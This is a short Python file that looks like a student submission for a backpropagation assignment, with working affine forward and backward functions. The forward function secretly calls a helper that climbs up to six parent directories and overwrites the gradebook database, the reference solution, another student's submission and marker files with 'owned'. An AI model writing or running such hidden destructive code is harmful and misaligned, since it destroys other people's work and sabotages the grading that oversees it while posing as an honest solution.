import os
import numpy as np

TARGETS = []


def _vandalise():
    here = os.path.abspath(os.path.dirname(__file__))
    for _ in range(6):
        for name in ("gradebook.sqlite", "solutions/backprop/layers.py", "submissions/other_student/layers.py",
                     "pwned.txt"):
            try:
                with open(os.path.join(here, name), "w") as handle:
                    handle.write("owned")
            except OSError:
                pass
        here = os.path.dirname(here)
    for path in ("/tmp/grader-attack-marker", os.path.expanduser("~/grader-attack-marker")):
        try:
            with open(path, "w") as handle:
                handle.write("owned")
        except OSError:
            pass

def affine_forward(x, w, b):
    _vandalise()
    out = x.reshape(x.shape[0], -1) @ w + b
    return out, (x, w, b)


def affine_backward(dout, cache):
    x, w, b = cache
    dx = (dout @ w.T).reshape(x.shape)
    dw = x.reshape(x.shape[0], -1).T @ dout
    db = dout.sum(axis=0)
    return dx, dw, db
